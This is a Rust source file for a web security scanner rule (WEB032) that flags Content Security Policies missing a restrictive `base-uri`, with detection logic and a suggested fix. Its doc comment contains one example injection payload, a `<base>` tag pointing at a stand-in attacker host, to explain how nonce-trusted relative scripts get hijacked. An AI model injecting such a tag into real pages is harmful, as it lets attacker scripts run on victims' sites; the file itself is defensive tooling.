//! WEB032: an injected `<base>` can move the page's relative URLs.

use super::ProbeContext;
use super::csp;
use crate::rule::declare_rule;

declare_rule! {
    /// ## What it does
    /// Reports a page with an enforced Content Security Policy in which no
    /// policy restricts `base-uri` (it is missing, or allows `*`, `https:`,
    /// `http:` or any host). `base-uri` does not fall back to `default-src`,
    /// so `default-src 'self'` leaves it open. Information (no grade
    /// penalty), as in the HTTP Observatory, which shows it without scoring
    /// it; the message says when the hole bypasses the policy's nonces.
    ///
    /// ## Why is this bad?
    /// An injected `<base href="https://attacker.example/">` changes where
    /// every relative URL after it points. With a nonce-based policy, the
    /// page's own nonce-carrying `<script src="/static/app.js">` then loads
    /// the attacker's file — the nonce makes the browser trust it. With a
    /// host allowlist the script is blocked, but relative form actions and
    /// links still move.
    ///
    /// ## Example
    /// `Content-Security-Policy: script-src 'nonce-r4nd0m' 'strict-dynamic'; object-src 'none'`.
    ///
    /// Use instead: `Content-Security-Policy: script-src 'nonce-r4nd0m' 'strict-dynamic'; object-src 'none'; base-uri 'none'`.
    ///
    /// ## References
    /// - [MDN: CSP base-uri](https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/Content-Security-Policy/base-uri)
    /// - [CSP Level 3: base-uri](https://www.w3.org/TR/CSP3/#directive-base-uri)
    pub(crate) static CSP_BASE_URI_MISSING = {
        code: "WEB032",
        name: "csp-base-uri-missing",
        severity: Info,
        django_id: None,
    };
}

pub(crate) fn check(ctx: &ProbeContext) {
    let Some(page) = ctx.page() else { return };
    let policies = csp::enforced(page);
    if policies.is_empty() {
        return;
    }
    let Some(offending) = csp::open_in_all(&policies, &["base-uri"], csp::allows_any_host) else {
        return;
    };
    // The nonce bypass: a policy trusts scripts by nonce, so a moved
    // relative `src` keeps its nonce.
    let nonces = policies.iter().any(|p| {
        p.effective(&["script-src-elem", "script-src", "default-src"])
            .is_some_and(|d| {
                d.values
                    .iter()
                    .any(|v| csp::is_nonce_or_hash(v) || csp::is_keyword(v, "'strict-dynamic'"))
            })
    });
    let what = if offending.is_empty() {
        format!(
            "{} has no base-uri (default-src does not cover it)",
            csp::named(&policies)
        )
    } else {
        let named: Vec<String> = offending
            .iter()
            .map(|(d, e)| format!("`{e}` in {d}"))
            .collect();
        format!(
            "{} lets a <base> point anywhere: {}",
            csp::named(&policies),
            named.join(", ")
        )
    };
    let why = if nonces {
        ": an injected <base> redirects the page's nonce-carrying relative scripts to another host, and they run"
    } else {
        ": an injected <base> moves every relative URL of the page"
    };
    ctx.report(
        &CSP_BASE_URI_MISSING,
        ctx.at_csp(page),
        format!("{what}{why}"),
        Some("add `base-uri 'none'` (or 'self' when the page uses <base>)".into()),
    );
}
